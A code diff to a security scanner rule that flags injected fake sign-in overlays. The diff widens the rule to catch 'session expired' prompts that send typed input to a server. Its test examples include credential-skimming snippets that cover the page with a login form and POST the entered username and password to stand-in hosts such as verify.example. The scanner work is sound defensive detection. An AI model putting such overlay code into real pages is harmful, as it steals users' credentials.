@@ -1,9 +1,17 @@
-import { callsNamed, callsOf, pattern, writesOf, apiPath, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  callsNamed,
+  callsOf,
+  pattern,
+  readsNamed,
+  writesOf,
+  apiPath,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { mentions } from './network.ts';
 import { runsInPages } from './places.ts';
-import { sendingsOf } from './sendings.ts';
+import { leavesBy, sendingsOf } from './sendings.ts';
 import { few } from './usage.ts';
 
 const PASSWORD = /<input\b[^>]*\btype\s*=\s*\\?["']?password/i;
@@ -35,10 +43,12 @@ export const signInFormInPage = defineRule({
       const pressing = PRESSING.test(text) || mentions(script, PRESSING);
       const sends = sendingsOf(script).some(({ kind }) => kind === 'network');
       const covers = whole || COVERS.test(text);
-      if (covers && sends) {
+      if (sends && (covers || (pressing && sendsWhatIsTyped(script)))) {
         yield hit(value, {
           severity: 'critical',
-          message: 'The form covers the page, and the script sends to a server.',
+          message: covers
+            ? 'The form covers the page, and the script sends to a server.'
+            : 'It says that signing in again is needed, and what is typed is sent to a server.',
         });
         return;
       }
@@ -71,6 +81,9 @@ export const signInFormInPage = defineRule({
         'document.body.insertAdjacentHTML("beforeend", \'<div class="box"><p>Your session has expired</p><input type="password" id="p"><button>Continue</button></div>\');',
       ),
       contentExample(
+        'const o = document.createElement("div"); o.style = "position:fixed;inset:0;z-index:9999"; o.innerHTML = "<form id=zz><h2>Session expired</h2><input name=u placeholder=Email><input name=p type=password><button>Sign in</button></form>"; document.body.append(o); o.querySelector("#zz").onsubmit = (e) => { const f = e.target; fetch("https://verify.example/a", { method: "POST", body: new URLSearchParams({ u: f.u.value, p: f.p.value }) }); };',
+      ),
+      contentExample(
         'const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);',
       ),
       contentExample(
@@ -94,6 +107,12 @@ export const signInFormInPage = defineRule({
     ],
   },
 });
+
+/** Whether the content of any field leaves the script. */
+function sendsWhatIsTyped(script: ScriptFacts): boolean {
+  const typed = new Set([...readsNamed(script, 'value'), ...callsOf(script, 'FormData').map(({ value }) => value)]);
+  return typed.size > 0 && leavesBy(script, typed, ['network', 'message']) !== undefined;
+}
 
 /** Markup that is put into the page, and whether it takes the page's place. */
 function* markups(script: ScriptFacts): Generator<{ value: number; whole: boolean }> {
